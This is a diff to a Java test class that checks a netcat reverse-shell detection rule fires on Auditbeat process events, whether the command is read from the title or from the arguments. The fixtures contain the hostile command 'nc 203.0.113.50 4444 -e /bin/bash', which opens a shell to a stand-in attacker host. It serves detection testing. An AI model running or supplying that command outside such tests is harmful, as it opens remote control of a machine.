@@ -95,7 +95,7 @@ class ElasticEcsLogsourcesTest {
     }
 
     @Test
-    void auditbeatExecutionsReadTheirCommandFromTheProcessTitle() {
+    void auditbeatExecutionsReadTheirCommandFromTheTitleOrTheArguments() {
         assumeCorpus();
         String reverseShell = id("rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml");
         String auditbeat = """
@@ -105,14 +105,24 @@ class ElasticEcsLogsourcesTest {
                  "host": {"name": "web-01", "os": {"type": "linux", "family": "redhat"}},
                  "user": {"name": "www-data", "id": "33"},
                  "process": {"pid": 31337, "executable": "/usr/bin/nc", "name": "nc", "title": "%s",
-                   "args": ["nc", "203.0.113.50", "4444", "-e", "/bin/bash"], "working_directory": "/var/www",
-                   "parent": {"pid": 1200}},
+                   "working_directory": "/var/www", "parent": {"pid": 1200}},
                  "auditd": {"sequence": 8811, "result": "success", "summary": {"actor": {"primary": "www-data"}}}}""";
         assertThat(logsources(ingestedJson(auditbeat.formatted("nc 203.0.113.50 4444 -e /bin/bash"))))
                 .contains(LINUX_PROCESS_CREATION);
         assertThat(firedJson(auditbeat.formatted("nc 203.0.113.50 4444 -e /bin/bash")))
                 .contains(reverseShell);
         assertThat(firedJson(auditbeat.formatted("nc -z 203.0.113.50 443"))).doesNotContain(reverseShell);
+        // Auditbeat's system process dataset has neither: its arguments are the command line
+        String systemProcess = """
+                {"@timestamp": "2026-03-01T09:15:02.123Z", "agent": {"type": "auditbeat"}, "ecs": {"version": "8.0.0"},
+                 "event": {"module": "system", "dataset": "process", "category": ["process"], "type": ["start"],
+                   "action": "process_started", "kind": "event"},
+                 "host": {"name": "web-01", "os": {"type": "linux"}}, "user": {"name": "www-data"},
+                 "process": {"pid": 31337, "executable": "/usr/bin/nc", "name": "nc", "args": [%s], "parent": {"pid": 1200}}}""";
+        assertThat(firedJson(systemProcess.formatted("\"nc\", \"203.0.113.50\", \"4444\", \"-e\", \"/bin/bash\"")))
+                .contains(reverseShell);
+        assertThat(firedJson(systemProcess.formatted("\"nc\", \"-z\", \"203.0.113.50\", \"443\"")))
+                .doesNotContain(reverseShell);
     }
 
     private static String defendNetwork(String os, String image, String direction, String ip, int port) {
